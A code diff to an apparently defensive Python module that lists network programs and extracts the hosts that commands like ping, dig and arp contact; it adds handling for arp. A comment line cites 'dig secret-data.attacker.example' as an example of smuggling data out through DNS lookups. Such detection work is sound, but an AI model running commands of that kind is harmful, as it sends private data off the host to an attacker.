@@ -11,6 +11,7 @@ that zone, so `dig secret-data.attacker.example` carries `secret-data` off the h
 from __future__ import annotations
 
 import ipaddress
+import re
 from dataclasses import dataclass
 from functools import lru_cache
 
@@ -40,6 +41,7 @@ NETWORK_PROGRAMS = frozenset(
         "chronyc",
         "getent",
         "resolvectl",
+        "arp",
     }
 )
 _DNS_TYPES = words(
@@ -101,6 +103,8 @@ def destinations_of(inv: Invocation) -> list[str] | str:
     program, operands = inv.program, inv.positionals
     if program in {"ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "arping"}:
         return list(operands)
+    if program == "arp":  # a host name operand is looked up in DNS
+        return [word for word in operands if not re.fullmatch(r"[0-9a-fA-F.:]+", word)]
     if program == "dig":
         out: list[str] = []
         for word in operands:
